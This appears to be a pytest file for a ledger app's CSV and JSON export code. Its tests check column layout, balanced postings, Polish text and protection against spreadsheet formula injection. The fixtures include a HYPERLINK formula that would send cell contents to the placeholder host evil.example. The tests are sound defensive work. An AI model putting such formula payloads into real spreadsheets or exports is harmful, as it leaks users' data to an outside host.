"""Exports in the documented interchange format (app/ledger/exports.py), and the statement CSV."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime

import pytest
from flask import Flask

from app.ledger.exports import (
    BALANCE_COLUMNS,
    ENTRY_COLUMNS,
    indented_json,
    iter_balances_csv,
    iter_entries_csv,
    ledger_document,
)
from app.ledger.operations import transfer_points


def _rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_entries_csv_has_one_row_per_posting(booked):
    rows = _rows("".join(iter_entries_csv()))
    assert list(rows[0].keys()) == ENTRY_COLUMNS
    assert len(rows) == 6
    assert {r["entry_id"] for r in rows} == {"1", "2", "3"}


def test_entries_csv_rows_of_each_entry_sum_to_zero(booked):
    totals: dict[str, int] = {}
    for row in _rows("".join(iter_entries_csv())):
        totals[row["entry_id"]] = totals.get(row["entry_id"], 0) + int(row["points"])
    assert set(totals.values()) == {0}


def test_entries_csv_keeps_punctuation_and_polish_letters(booked):
    a, _b, first = booked
    rows = [r for r in _rows("".join(iter_entries_csv())) if r["entry_id"] == str(first.id)]
    assert rows[0]["memo"] == "Sala; projektor, \"nagłośnienie\""
    assert {r["account_name"] for r in rows} == {"Fundacja „Żółw”, Tczew", "Klub Ósemka"}
    assert {r["account_ref"] for r in rows} == {a.ref, booked[1].ref}


def test_entries_csv_links_reversals_and_sources(booked):
    rows = _rows("".join(iter_entries_csv()))
    reversal = next(r for r in rows if r["kind"] == "reversal")
    assert reversal["reverses_entry_id"] == str(booked[2].id)
    fulfilment = next(r for r in rows if r["kind"] == "fulfilment")
    assert fulfilment["source"] == "obligation:17" and fulfilment["fair"] == "tczew"
    assert fulfilment["created_at"].endswith("Z")


def test_balances_csv_lists_every_account_with_limits(booked):
    rows = _rows("".join(iter_balances_csv()))
    assert list(rows[0].keys()) == BALANCE_COLUMNS
    by_name = {r["account_name"]: r for r in rows}
    assert by_name["Klub Ósemka"]["balance"] == "0"
    assert (by_name["Klub Ósemka"]["floor"], by_name["Klub Ósemka"]["ceiling"]) == ("-500", "1000")
    assert sum(int(r["balance"]) for r in rows) == 0


@pytest.mark.parametrize("value", [
    {}, [], 0, "ż", None, [[[]]], [{"a": [{"b": 1}]}], ({"t": (1, [])},),
    {"a": [], "b": {}, "c": [1, -2.5, True, None, {"d": 'q"\\\n\u2028Ż', "e": []}], "f": {"g": {"h": "i"}}},
])
def test_indented_json_is_json_dumps_with_indent_1(value):
    assert indented_json(value) == json.dumps(value, ensure_ascii=False, indent=1)


def test_ledger_json_is_the_document_indented(booked):
    document = ledger_document()
    assert indented_json(document) == json.dumps(document, ensure_ascii=False, indent=1)


def test_json_document_holds_accounts_and_balanced_entries(booked):
    document = ledger_document()
    assert (document["format"], document["version"], document["unit"]) == ("gielda-ledger", 1, "points")
    assert len(document["entries"]) == 3
    refs = {a["ref"] for a in document["accounts"]}
    for entry in document["entries"]:
        assert sum(p["points"] for p in entry["postings"]) == 0
        assert {p["account"] for p in entry["postings"]} <= refs


# --- formula injection: text neutralised, numbers kept ----------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'
HOSTILE_MEMO = "@SUMA(A1:A9) i -2+3 za salę"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(make_account, operator):
    a, b = make_account(HOSTILE_NAME, floor=-500), make_account("-Klub Minus")
    entry = transfer_points(operator, a.id, b.id, 30, HOSTILE_MEMO, "+48-key")
    return a, b, entry


def _only_numbers_start_like_formulas(rows):
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-\d+", cell), cell


def test_entries_csv_neutralises_typed_text_and_keeps_negative_points(hostile, runner):
    a, b, entry = hostile
    for text in ("".join(iter_entries_csv()), runner.invoke(args=["ledger", "export", "--format", "csv"]).output):
        rows = [r for r in _rows(text) if r["entry_id"] == str(entry.id)]
        by_ref = {r["account_ref"]: r for r in rows}
        assert by_ref[a.ref]["account_name"] == "'" + HOSTILE_NAME
        assert by_ref[b.ref]["account_name"] == "'-Klub Minus"
        assert {r["memo"] for r in rows} == {"'" + HOSTILE_MEMO}
        assert {r["idempotency_key"] for r in rows} == {"'+48-key"}
        assert (by_ref[a.ref]["points"], by_ref[b.ref]["points"]) == ("-30", "30")  # numbers stay numbers
        _only_numbers_start_like_formulas(_rows(text))


def test_balances_csv_neutralises_names_and_keeps_negative_balances_and_floors(hostile, runner):
    a, b, _entry = hostile
    for text in ("".join(iter_balances_csv()),
                 runner.invoke(args=["ledger", "export", "--format", "csv", "--what", "balances"]).output):
        by_ref = {r["account_ref"]: r for r in _rows(text)}
        assert by_ref[a.ref]["account_name"] == "'" + HOSTILE_NAME
        assert (by_ref[a.ref]["balance"], by_ref[a.ref]["floor"]) == ("-30", "-500")
        assert by_ref[b.ref]["account_name"] == "'-Klub Minus"
        _only_numbers_start_like_formulas(_rows(text))


def test_the_json_export_keeps_the_text_as_typed(hostile):
    a, _b, entry = hostile
    document = ledger_document()
    assert {x["name"] for x in document["accounts"] if x["ref"] == a.ref} == {HOSTILE_NAME}
    assert {e["memo"] for e in document["entries"] if e["id"] == entry.id} == {HOSTILE_MEMO}


BOM = b"\xef\xbb\xbf"


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_ledger_statement_csv_neutralises_typed_text(app: Flask) -> None:
    """The points statement CSV (app/ledger/exports.py) shares the neutralising helper."""
    from datetime import UTC

    from app.ledger.exports import statement_csv
    from app.ledger.models import EntryKind
    from app.ledger.statements import Statement, StatementLine

    line = StatementLine(entry_id=1, at=datetime(2027, 3, 14, 9, tzinfo=UTC), kind=next(iter(EntryKind)),
                         memo="=HYPERLINK(\"http://evil.example\")", counterparties=("@Fundacja Ćma",),
                         points=-45, balance=-45, actor="", fair="+Giełda", source=None, reverses_id=None,
                         reversed_by_id=None)
    rows = read_csv(statement_csv(Statement(account=None, since=None, until=None, opening=0, closing=-45,  # type: ignore[arg-type]
                                            lines=(line,))).encode("utf-8"))
    row = next(r for r in rows if r[1] == "1")
    assert row[3] == "'=HYPERLINK(\"http://evil.example\")" and row[4] == "'+Giełda" and row[5] == "'@Fundacja Ćma"
    assert row[6] == "-45"  # numbers are not touched
